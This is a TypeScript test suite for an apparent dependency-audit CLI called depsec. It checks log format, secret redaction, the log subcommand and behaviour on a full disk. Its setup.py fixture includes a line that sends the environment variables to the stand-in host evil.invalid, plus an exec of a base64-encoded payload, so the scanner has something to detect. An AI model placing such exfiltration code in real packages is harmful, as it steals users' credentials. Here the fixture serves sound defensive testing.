import { execFileSync } from 'node:child_process';
import {
  appendFileSync,
  closeSync,
  existsSync,
  mkdtempSync,
  openSync,
  readFileSync,
  realpathSync,
  symlinkSync,
  writeSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { logLineSchema } from '../../src/log/schema.js';
import { packSdist } from '../support/pack.js';
import { startIndex, type LoopbackIndex } from '../support/loopback-index.js';
import { PLANTED } from '../support/planted-secrets.js';
import { DIST, makeProject } from '../support/run-audit.js';
import { runCommand, type CommandResult } from '../support/run-command.js';

const SETUP = [
  'import base64, os, urllib.request',
  ...PLANTED.map(({ text }) => text),
  ...PLANTED.map(
    ({ secret }) =>
      `urllib.request.urlopen("http://evil.invalid/" + ${JSON.stringify(secret)}, data=str(os.environ).encode())`,
  ),
  'exec(base64.b64decode("cHJpbnQoMSk="))',
  'from setuptools import setup',
  'setup(name="leaky", version="1.0")',
].join('\n');

let index: LoopbackIndex;
beforeAll(async () => {
  index = await startIndex({ files: [packSdist({ 'setup.py': SETUP }, { name: 'leaky', version: '1.0' })] });
});
afterAll(() => index.close());

const newHome = (): string => join(realpathSync(mkdtempSync(join(tmpdir(), 'depsec-home-'))), 'own');

function depsec(home: string, ...args: readonly string[]): Promise<CommandResult> {
  const root = makeProject({
    'requirements.txt': 'leaky\n',
    '.depsec.toml': '[thresholds]\nwarn_score = 0.3\n',
  });
  return runCommand(process.execPath, [join(DIST, 'cli.js'), ...args], {
    cwd: root,
    env: { ...process.env, DEPSEC_HOME: home, SERVICE_TOKEN: 'words-nobody-else-uses' },
  });
}

const audit = (home: string, ...more: readonly string[]): Promise<CommandResult> => {
  const url = index.url.replace('://', '://me:words-nobody-else-uses@');
  return depsec(home, 'audit', '--index-url', url, '-r', 'requirements.txt', '--advisories', 'off', ...more);
};

test('a run leaves lines of the documented shape, and no secret in log or reports', async () => {
  const home = newHome();
  const text = await audit(home, '-v', '--report', `sarif=${home}.sarif`);
  const json = await audit(home, '--format', 'json', '--report', `markdown=${home}.md`);
  expect([text.code, json.code]).toEqual([1, 1]);
  const log = readFileSync(join(home, 'depsec.log'), 'utf8');
  const lines = log
    .trimEnd()
    .split('\n')
    .map((line) => logLineSchema.parse(JSON.parse(line)));
  const kinds = lines.map(({ event }) => event);
  expect(kinds.slice(0, 4)).toEqual(['run', 'settings', 'resolution', 'package']);
  expect(kinds.filter((kind) => kind === 'end')).toHaveLength(2);
  expect(kinds.filter((kind) => kind === 'finding').length).toBeGreaterThan(10);
  expect(new Set(lines.map(({ run }) => run)).size).toBe(2);
  expect(lines[1]).toMatchObject({
    settings: [{ key: 'thresholds.warn_score', value: 0.3, origin: '.depsec.toml' }],
  });
  const files = [`${home}.sarif`, `${home}.md`].map((path) => readFileSync(path, 'utf8'));
  const everything = [log, text.stdout, text.stderr, json.stdout, json.stderr, ...files].join('\n');
  const secrets = [...PLANTED.map(({ secret }) => secret), 'words-nobody-else-uses'];
  expect(secrets.filter((secret) => everything.includes(secret))).toEqual([]);
  expect(everything).toContain('[redacted]');
  process.stderr.write(`secrets: ${secrets.length} planted, 0 in log and four reports\n`);
});

test('depsec log lists runs and shows the lines that are asked for', async () => {
  const home = newHome();
  expect(await depsec(home, 'log')).toMatchObject({
    code: 0,
    stdout: '',
    stderr: expect.stringContaining('no audit log'),
  });
  await audit(home);
  await depsec(home, 'scan', 'requirements.txt');
  const runs = (await depsec(home, 'log')).stdout.trimEnd().split('\n');
  expect(runs).toHaveLength(2);
  expect(runs[0]).toMatch(/Z {2}[0-9a-f]{8} {2}blocked, exit code 1 +audit --index-url/);
  const found = await depsec(home, 'log', '--event', 'package', '--package', 'Leaky');
  expect(found.stdout).toMatch(
    /^\S+ \S+ {2}\w{8} {2}package +leaky 1\.0: blocked, .* sha256:[0-9a-f]{64}\n$/,
  );
  const last = await depsec(home, 'log', '--run', 'last', '--format', 'json');
  const lines = last.stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { command?: string });
  expect(lines[0]?.command).toBe('scan');
  for (const none of [
    ['--since', '2999-01-01'],
    ['--run', 'zzzz'],
  ]) {
    const said = expect.stringMatching(/^No line of the audit log/) as string;
    expect(await depsec(home, 'log', ...none)).toMatchObject({ code: 0, stdout: '', stderr: said });
  }
  expect(await depsec(home, 'log', '--event', 'bogus')).toMatchObject({ code: 2 });
  expect(await depsec(home, 'log', 'bogus')).toMatchObject({ code: 2 });
});

test('a line of a kind that nobody knows is shown without words', async () => {
  const home = newHome();
  await depsec(home, 'scan', 'requirements.txt');
  const line = { time: '2026-01-31T00:00:00.000Z', run: 'abcdef0123456789', event: 'constructor' };
  appendFileSync(join(home, 'depsec.log'), `${JSON.stringify(line)}\n`);
  expect(await depsec(home, 'log', '--run', 'abcdef')).toMatchObject({
    code: 0,
    stdout: '2026-01-31 00:00:00Z  abcdef01  constructor  \n',
    stderr: '',
  });
});

const onLinux = existsSync('/dev/full') ? test : test.skip;

onLinux('a full disk is said once, and the verdict is what it would have been', async () => {
  const home = realpathSync(mkdtempSync(join(tmpdir(), 'depsec-home-')));
  const whole = await audit(home);
  const full = realpathSync(mkdtempSync(join(tmpdir(), 'depsec-home-')));
  symlinkSync('/dev/full', join(full, 'depsec.log'));
  const done = await audit(full);
  expect({ code: done.code, stdout: done.stdout }).toEqual({ code: whole.code, stdout: whole.stdout });
  expect(done.stderr.match(/audit log could not be written/g)).toHaveLength(1);
});

/** A folder on a disk of 64 KiB without any room left, where this user may make one. */
function fullDisk(): string | undefined {
  const path = realpathSync(mkdtempSync(join(tmpdir(), 'depsec-full-')));
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', 'size=64k', 'tmpfs', path], { stdio: 'ignore' });
  } catch {
    return undefined;
  }
  const file = openSync(join(path, 'filling'), 'w');
  try {
    while (writeSync(file, Buffer.alloc(4096)) > 0);
  } catch {
    return path;
  } finally {
    closeSync(file);
  }
  return path;
}

const full = existsSync('/dev/full') ? fullDisk() : undefined;

// Where this user may not mount, the device above stands for it.
(full === undefined ? test.skip : test)(
  'a home on a small disk that is full: log, cache and pip find no place, and the verdict is the same',
  async () => {
    try {
      const whole = await audit(realpathSync(mkdtempSync(join(tmpdir(), 'depsec-home-'))));
      const done = await audit(full ?? '');
      expect({ code: done.code, stdout: done.stdout }).toEqual({ code: whole.code, stdout: whole.stdout });
      expect(done.stderr.match(/audit log could not be written/g)).toHaveLength(1);
    } finally {
      execFileSync('umount', [full ?? '']);
    }
  },
);
